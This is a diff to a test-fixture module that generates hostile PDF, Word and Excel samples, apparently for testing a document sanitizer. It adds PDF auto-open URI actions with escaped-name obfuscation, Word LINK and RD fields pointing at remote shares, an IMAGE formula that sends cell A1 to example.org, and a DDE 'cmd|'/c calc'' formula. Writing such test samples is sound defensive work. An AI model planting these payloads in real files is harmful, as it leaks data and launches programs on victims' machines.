@@ -13,11 +13,13 @@ ELF = b"\x7fELF\x02\x01\x01" + b"\x00" * 200
 OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600
 HTML = b"<!doctype html><script>fetch('https://example.org')</script>"
 SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
+WORDS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
 REL = '<Relationships xmlns="x"><Relationship Id="r" Type="{0}" Target="{1}" TargetMode="External"/></Relationships>'
 RELATION = '<Relationships xmlns="x"><Relationship Id="r" {0}/></Relationships>'
-FIELD = '<w:p xmlns:w="w">{0}</w:p>'
+FIELD = f'<w:p xmlns:w="{WORDS}">{{0}}</w:p>'
 SHEET = '<c xmlns="x">{0}</c>'
 OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
+OPENS = b"<< /OpenAction 98 0 R >>\nendobj\n98 0 obj\n"
 
 Hostile = tuple[str, bytes]
 
@@ -77,8 +79,16 @@ def pdfs() -> Iterator[tuple[str, Hostile]]:
         "a form of XML": b"<< /AcroForm << /XFA 9 0 R >> >>",
         "a film": b"<< /Type /RichMedia >>",
         "another document": b"<< /S /GoToR /F (//example.org/share/x.pdf) >>",
+        "a thread of another document": b"<< /S /Thread /F (//example.org/share/x.pdf) /D 0 >>",
         "a document within": b"<< /S /GoToE >>",
         "data to import": b"<< /S /ImportData >>",
+        "an address it opens": b"<< /OpenAction << /S /URI /URI (https://example.org/?opened) >> >>",
+        "an address it opens after its first page": b"<< /OpenAction << /S /GoTo /D [3 0 R /Fit] "
+        b"/Next << /S /URI /URI (https://example.org) >> >> >>",
+        "an address it opens when closed": b"<< /AA << /WC << /S /URI /URI (https://example.org) >> >> >>",
+        "an address it opens from elsewhere": OPENS + b"<< /S /URI /URI (https://example.org) >>",
+        "an address it opens behind a note": OPENS + b"%/A\n<< /S /URI /URI (https://example.org) >>",
+        "an address it opens, disguised": b"<< /Open#41ction << /S /URI /#55RI (https://example.org) >> >>",
     }
     for what, act in acts.items():
         yield f"a PDF with {what}", ("letter.pdf", with_object(good, act))
@@ -86,6 +96,10 @@ def pdfs() -> Iterator[tuple[str, Hostile]]:
     yield (
         "a PDF with a packed script",
         ("letter.pdf", with_stream(good, script, b"/Type /ObjStm /N 1 /First 0")),
+    )
+    yield (
+        "a PDF with a packed address it opens",
+        ("letter.pdf", with_stream(good, acts["an address it opens"], b"/Type /ObjStm /N 1 /First 0")),
     )
     yield "a PDF with a script packed twice", (
         "letter.pdf", with_stream(good, zlib.compress(script), b"/Type /ObjStm /N 1 /First 0"),
@@ -156,8 +170,12 @@ def words() -> Iterator[tuple[str, Hostile]]:
         "a field with a note in it": field("<w:instrText>DD<!-- x -->EAUTO x</w:instrText>"),
         "a field in raw letters": field("<w:instrText><![CDATA[DDE]]>AUTO x</w:instrText>"),
         "a field by another prefix": {
-            "word/header1.xml": '<q:p xmlns:q="w"><q:instrText>DDEAUTO x</q:instrText></q:p>'
+            "word/header1.xml": f'<q:p xmlns:q="{WORDS}"><q:instrText>DDEAUTO x</q:instrText></q:p>'
         },
+        "a field that links": field(r'<w:instrText>LINK Excel.Sheet.12 "\\\\example.org\\a.xlsx" "S"</w:instrText>'),
+        "a field that reads a document": field(r'<w:fldSimple w:instr="RD \\\\example.org\\s\\a.docx"/>'),
+        "two words of one name": {"word/_rels/settings.xml.rels": RELATION.format(
+            f'Type="{OFFICE}attachedTemplate" x:Type="{OFFICE}hyperlink" xmlns:x="x" Target="https://example.org"')},
         "a field in an attribute in numbers": field("<w:fldSimple w:instr='&#x44;DE x'/>"),
         "a remote template in numbers": {"word/_rels/settings.xml.rels": RELATION.format(
             f'Type="{OFFICE}attachedTemplate" Target="https://example.org/t.dotm" TargetMode="&#69;xternal"')},
@@ -207,6 +225,11 @@ def excels() -> Iterator[tuple[str, Hostile]]:
         "a name that fetches": {
             "xl/extra.xml": SHEET.format("<definedName name='a'>_xlfn.WEBSERVICE(&#34;x&#34;)</definedName>")
         },
+        "a formula that draws": {
+            "xl/x.xml": SHEET.format('<f>_xlfn.IMAGE("https://example.org?"&amp;A1)</f>')
+        },
+        "a formula of another workbook": {"xl/x.xml": SHEET.format(r"<f>'\\example.org\s\[a.xlsx]S'!A1</f>")},
+        "a formula that asks a program": {"xl/x.xml": SHEET.format("<f>cmd|'/c calc'!A0</f>")},
         "a formula that calls": {"xl/worksheets/sheet1.xml": SHEET.format('<f a="1">CALL("x","y")</f>')},
         "a control": {"xl/ctrlProps/ctrlProp1.xml": "<x/>"},
     }
@@ -253,7 +276,7 @@ def field(markup: str) -> dict[str, str | bytes]:
 
 def with_object(good: bytes, body: bytes) -> bytes:
     """The PDF with one more object before its end."""
-    at = good.rindex(b"xref") if b"\nxref" in good else good.rindex(b"startxref")
+    at = good.rindex(b"startxref")
     return good[:at] + b"\n99 0 obj\n" + body + b"\nendobj\n" + good[at:]
 
 
